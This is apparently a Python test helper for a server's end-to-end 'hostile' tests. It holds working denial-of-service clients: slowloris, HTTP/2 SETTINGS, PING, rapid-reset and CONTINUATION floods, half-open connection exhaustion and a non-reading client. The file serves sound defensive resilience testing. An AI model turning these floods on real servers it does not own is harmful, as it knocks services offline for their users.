#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Hostile peers for tests/e2e/test-hostile.sh (issue 19): each subcommand attacks one address and
prints one line saying how the server answered, for the shell to judge.

  slowloris HOST PORT [--tls ...]    a request head one byte every --interval s; prints
                                     "cut S STATUS" (seconds until the server ended it, the status
                                     it answered or "-") or "alive S" when --max passed first
  flood KIND HOST PORT [--tls ...]   HTTP/2 preface, then KIND frames (settings, ping, rst: HEADERS
                                     and RST_STREAM in a loop, rst-late: the same with 50 HEADERS
                                     and their RST_STREAMs 20 ms later, continuation: one HEADERS and
                                     CONTINUATION frames without END_HEADERS), reading what comes;
                                     prints "goaway CODE FRAMES S" or "closed FRAMES S" or
                                     "alive FRAMES S"; --repeat S attacks again until S seconds pass
  halfopen HOST PORT --n N           N TCP connections that send nothing; holds them --hold s,
                                     prints "open N closed M" at each --report time
  noread h1|h2 HOST PORT PATH        asks for a long answer and never reads; prints "cut S" when the
                                     server ends the connection (RST or FIN seen once we read) or
                                     "alive S"
  latency URL --n N                  N sequential GETs, a new connection each; prints
                                     "median MS p90 MS errors E"
  rss PID                            the resident set of PID in KiB
"""
import argparse
import http.client
import os
import resource
import select
import socket
import ssl
import struct
import sys
import time
import urllib.parse

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINUP, CONT = range(10)


def frame(t, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([t, flags]) + struct.pack(">I", sid) + payload


def hpack_lit(name, value):
    # literal without indexing, new name (0x00), lengths < 127, no Huffman
    return bytes([0, len(name)]) + name + bytes([len(value)]) + value


def req_block(authority=b"x"):
    # :method GET (idx 2), :scheme http (idx 6), :path / (idx 4), :authority literal
    return bytes([0x82, 0x86, 0x84]) + bytes([0x01, len(authority)]) + authority


def connect(a, host, port):
    raw = socket.create_connection((host, port), timeout=10)
    if not a.tls:
        return raw
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_REQUIRED
    ctx.load_verify_locations(a.ca)
    ctx.load_cert_chain(a.cert, a.key)
    ctx.set_alpn_protocols(["h2"])
    return ctx.wrap_socket(raw)


class Reader:
    """Parses the frames the server sends; notes GOAWAY and the end of the connection."""

    def __init__(self, s):
        self.s = s
        self.buf = b""
        self.goaway = None
        self.last_sid = 0
        self.acks = 0  # PING and SETTINGS acknowledgements before any GOAWAY: frames processed
        self.closed = False

    def poll(self, timeout=0):
        while not self.closed:
            r, _, _ = select.select([self.s], [], [], timeout)
            if not r and not (isinstance(self.s, ssl.SSLSocket) and self.s.pending()):
                return
            try:
                d = self.s.recv(65536)
            except (ssl.SSLWantReadError, BlockingIOError):
                return
            except (ConnectionError, ssl.SSLError, OSError):
                self.closed = True
                return
            if not d:
                self.closed = True
                return
            self.buf += d
            while len(self.buf) >= 9:
                n = int.from_bytes(self.buf[:3], "big")
                if len(self.buf) < 9 + n:
                    break
                t, p = self.buf[3], self.buf[9:9 + n]
                if t == GOAWAY and self.goaway is None:
                    self.last_sid = struct.unpack(">I", p[0:4])[0] & 0x7fffffff
                    self.goaway = struct.unpack(">I", p[4:8])[0]
                elif t in (PING, SETTINGS) and self.buf[4] & 1 and self.goaway is None:
                    self.acks += 1
                self.buf = self.buf[9 + n:]
            timeout = 0


def client_hello():
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    o = ctx.wrap_bio(inc, out)
    try:
        o.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def slowloris(a):
    s = socket.create_connection((a.host, a.port), timeout=10)
    if a.tls_hello:
        head = client_hello()
    else:
        head = b"GET /slowloris HTTP/1.1\r\nHost: echo\r\nUser-Agent: slowloris\r\n" + \
            b"".join(b"X-Pad-%d: %d\r\n" % (i, i) for i in range(100)) + b"\r\n"
    t0 = time.monotonic()
    got = b""
    s.settimeout(a.interval)
    for b in head:
        try:
            s.sendall(bytes([b]))
        except OSError:
            break
        try:
            d = s.recv(65536)
            if not d:
                break
            got += d
            if b"\r\n\r\n" in got and b"connection: close" in got.lower():
                # answered and closing: wait for the FIN
                s.settimeout(5)
                while s.recv(65536):
                    pass
                break
        except socket.timeout:
            pass
        except OSError:
            break
        if time.monotonic() - t0 > a.max:
            print("alive %.1f" % (time.monotonic() - t0))
            return
    st = got.split(b" ", 2)[1].decode() if got.startswith(b"HTTP/1.1 ") else "-"
    print("cut %.1f %s" % (time.monotonic() - t0, st))


def flood_once(a, deadline):
    s = connect(a, a.host, a.port)
    r = Reader(s)
    s.sendall(PREFACE + frame(SETTINGS, 0, 0))
    n = 0
    sid = 1
    t0 = time.monotonic()
    batch = []
    late = []  # rst-late: the resets of the HEADERS in batch
    rst_upto = 0  # rst-late: the last stream reset
    if a.kind == "continuation":
        s.sendall(frame(HEADERS, 0, 1, req_block()))
    while time.monotonic() < deadline and n < a.max_frames:
        if a.kind == "settings":
            batch.append(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)))
        elif a.kind == "ping":
            batch.append(frame(PING, 0, 0, struct.pack(">Q", n)))
        elif a.kind == "rst":
            batch.append(frame(HEADERS, 4, sid, req_block()) + frame(RST, 0, sid, struct.pack(">I", 8)))
            sid += 2
        elif a.kind == "rst-late":
            batch.append(frame(HEADERS, 4, sid, req_block()))
            late.append(frame(RST, 0, sid, struct.pack(">I", 8)))
            sid += 2
        elif a.kind == "continuation":
            batch.append(frame(CONT, 0, 1, hpack_lit(b"x-c%d" % n, b"v" * 40)))
        n += 1
        if len(batch) >= (5 if a.kind == "continuation" else 50):
            try:
                s.sendall(b"".join(batch))
                if late:
                    # the server has opened them (upstream too) before they are reset
                    time.sleep(0.02)
                    s.sendall(b"".join(late))
                    rst_upto = sid - 2
            except OSError:
                r.closed = True
            batch = []
            late = []
            if a.read:
                r.poll()
            if r.closed or r.goaway is not None:
                break
    if not r.closed:
        r.poll(1.0)
    el = time.monotonic() - t0
    s.close()
    # frames the server took before it said GOAWAY: the acknowledgements of our SETTINGS
    # (less the first, of the preface) or PINGs; for rapid reset, the streams it saw
    done = {"settings": r.acks - 1, "ping": r.acks, "rst": (r.last_sid + 1) // 2,
            "rst-late": (min(r.last_sid, rst_upto) + 1) // 2, "continuation": n}[a.kind]
    if r.goaway is not None:
        return "goaway %d %d %.2f" % (r.goaway, done, el)
    return ("closed %d %.2f" if r.closed else "alive %d %.2f") % (done, el)


def flood(a):
    end = time.monotonic() + a.repeat
    res = []
    while True:
        try:
            res.append(flood_once(a, time.monotonic() + a.max))
        except OSError as e:
            res.append("error %s" % e)
        if time.monotonic() >= end:
            break
        time.sleep(a.pause)
    for x in res:
        print(x)


def halfopen(a):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, a.n + 100), max(hard, a.n + 100)))
    socks = []
    hello = client_hello()[:a.send] if a.send else b""
    for i in range(a.n):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if hello:
            # the start of a ClientHello, never the rest: the handshake begins and waits
            s.settimeout(10)
            s.connect((a.host, a.port))
            s.sendall(hello)
            s.setblocking(False)
        else:
            s.setblocking(False)
            try:
                s.connect((a.host, a.port))
            except BlockingIOError:
                pass
        socks.append(s)
        if i % 250 == 249:
            time.sleep(0.1)  # within the listen backlog (511): else some wait in SYN retries
    t0 = time.monotonic()
    print("open %d" % len(socks), flush=True)
    live = set(socks)
    while live and time.monotonic() - t0 < a.max:
        time.sleep(0.5)
        for s in list(live):
            try:
                if s.recv(1) == b"":
                    live.discard(s)
                    s.close()
            except BlockingIOError:
                pass
            except OSError:
                live.discard(s)
                s.close()
        print("at %.1f closed %d" % (time.monotonic() - t0, a.n - len(live)), flush=True)


def noread(a):
    s = connect(a, a.host, a.port)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    if a.proto == "h1":
        s.sendall(b"GET %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (a.path.encode(), a.host.encode()))
    else:
        # initial window 0: nothing of the answer may come until we say so, and we never do
        s.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) +
                  frame(HEADERS, 5, 1, bytes([0x82, 0x86]) + bytes([0x04, len(a.path)]) +
                        a.path.encode() + bytes([0x01, 1]) + b"x"))
    t0 = time.monotonic()
    time.sleep(a.hold)
    # now read everything: the server ended it if it sent FIN or RST before what it could send ran out
    s.settimeout(2)
    n = 0
    cut = False
    try:
        while True:
            d = s.recv(1 << 20)
            if not d:
                cut = True
                break
            n += len(d)
    except socket.timeout:
        pass
    except OSError:
        cut = True
    print("%s %.1f %d" % ("cut" if cut else "alive", time.monotonic() - t0, n))


def latency(a):
    u = urllib.parse.urlparse(a.url)
    ts = []
    err = 0
    for _ in range(a.n):
        t = time.monotonic()
        try:
            c = http.client.HTTPConnection(u.hostname, u.port or 80, timeout=5)
            c.request("GET", u.path or "/")
            r = c.getresponse()
            r.read()
            c.close()
            if r.status != 200:
                err += 1
        except OSError:
            err += 1
        ts.append((time.monotonic() - t) * 1000)
        if a.gap:
            time.sleep(a.gap)
    ts.sort()
    print("median %.2f p90 %.2f errors %d" % (ts[len(ts) // 2], ts[len(ts) * 9 // 10], err))


def rss(a):
    for line in open("/proc/%d/status" % a.pid):
        if line.startswith("VmRSS:"):
            print(line.split()[1])


def main():
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="cmd", required=True)

    def tls(q):
        q.add_argument("--tls", action="store_true")
        q.add_argument("--ca")
        q.add_argument("--cert")
        q.add_argument("--key")

    q = sub.add_parser("slowloris")
    q.add_argument("host")
    q.add_argument("port", type=int)
    q.add_argument("--interval", type=float, default=1.0)
    q.add_argument("--max", type=float, default=30)
    q.add_argument("--tls-hello", action="store_true", help="send a TLS ClientHello instead")
    q = sub.add_parser("flood")
    q.add_argument("kind", choices=["settings", "ping", "rst", "rst-late", "continuation"])
    q.add_argument("host")
    q.add_argument("port", type=int)
    q.add_argument("--max", type=float, default=5, help="seconds per connection")
    q.add_argument("--max-frames", type=int, default=1000000)
    q.add_argument("--repeat", type=float, default=0)
    q.add_argument("--pause", type=float, default=0.1, help="between repeats")
    q.add_argument("--read", action="store_true", help="read the answers while sending")
    tls(q)
    q = sub.add_parser("halfopen")
    q.add_argument("host")
    q.add_argument("port", type=int)
    q.add_argument("--n", type=int, default=10000)
    q.add_argument("--max", type=float, default=60, help="give up after this many seconds")
    q.add_argument("--send", type=int, default=0, help="send the first SEND bytes of a ClientHello")
    q = sub.add_parser("noread")
    q.add_argument("proto", choices=["h1", "h2"])
    q.add_argument("host")
    q.add_argument("port", type=int)
    q.add_argument("path")
    q.add_argument("--hold", type=float, default=8)
    tls(q)
    q = sub.add_parser("latency")
    q.add_argument("url")
    q.add_argument("--n", type=int, default=200)
    q.add_argument("--gap", type=float, default=0)
    q = sub.add_parser("rss")
    q.add_argument("pid", type=int)
    a = p.parse_args()
    {"slowloris": slowloris, "flood": flood, "halfopen": halfopen, "noread": noread,
     "latency": latency, "rss": rss}[a.cmd](a)


if __name__ == "__main__":
    main()
